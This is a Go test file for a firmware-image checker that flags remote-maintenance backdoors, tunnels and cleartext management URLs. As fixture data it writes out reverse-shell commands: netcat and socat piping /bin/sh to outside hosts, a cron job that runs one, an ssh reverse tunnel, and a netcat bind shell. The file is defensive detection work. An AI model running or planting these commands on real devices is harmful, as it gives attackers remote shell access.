package remotemaintenance

import (
	"testing"

	"assay/lab/check/checktest"
	"assay/lab/fact"
)

func start(line string, n int) fact.Startup {
	return fact.Startup{Syntax: "script", Command: line, Program: line, Line: n}
}

func TestFlawed(t *testing.T) {
	im := &checktest.Image{}
	im.File("etc/init.d/rcS", 0o755, start("/usr/sbin/cwmpd", 1), start("/usr/bin/frpc", 2), start("ssh -N -R 2222:localhost:22 joe@h.vendor.com", 3)).
		File("usr/sbin/cwmpd", 0o755).File("usr/bin/frpc", 0o755).File("usr/bin/ngrok", 0o755).
		File("etc/cron.d/x", 0o644, fact.Job{Syntax: "system-crontab", Command: "nc 1.2.3.40 99 -e /bin/sh", Line: 1}).
		File("etc/old.sh", 0o755, start("socat TCP:h.vendor.com:9 EXEC:/bin/sh", 4)).
		File("etc/config/cwmp", 0o644, fact.Address{Kind: "url", Value: "http://acs.vendor.com/", Scheme: "http", Host: "acs.vendor.com", Role: "acs", Key: "acs_url", Line: 3})
	im.Want(t, Check,
		"info client: /usr/sbin/cwmpd (started at boot as cwmpd (rcS)) @ usr/sbin/cwmpd",
		"medium tunnel: /usr/bin/frpc (started at boot as frpc (rcS)) @ usr/bin/frpc",
		"low tunnel: /usr/bin/ngrok (nothing that was read starts it) @ usr/bin/ngrok",
		"high reverse: ssh -R in /etc/init.d/rcS (run at boot (rcS)) @ etc/init.d/rcS:3",
		"high reverse: netcat to a shell in /etc/cron.d/x (run by cron (etc/cron.d/x)) @ etc/cron.d/x:1",
		"medium reverse: socat to a shell in /etc/old.sh (nothing that was read starts it) @ etc/old.sh:4",
		"medium cleartext: http://acs.vendor.com/ in /etc/config/cwmp @ etc/config/cwmp:3")
}

func TestClean(t *testing.T) {
	im := &checktest.Image{}
	im.File("etc/init.d/rcS", 0o755, start("/usr/sbin/sshd -R", 1), start("nc -l -p 9 -e /bin/sh", 2), start("ssh joe@h.vendor.com", 3)).
		File("usr/sbin/sshd", 0o755).File("usr/bin/ssh", 0o755).File("etc/tr069.conf", 0o644).
		File("etc/config/cwmp", 0o644, fact.Address{Kind: "url", Value: "https://acs.vendor.com/", Scheme: "https", Host: "acs.vendor.com", Role: "acs", Key: "acs_url", Line: 3})
	im.Want(t, Check)
}
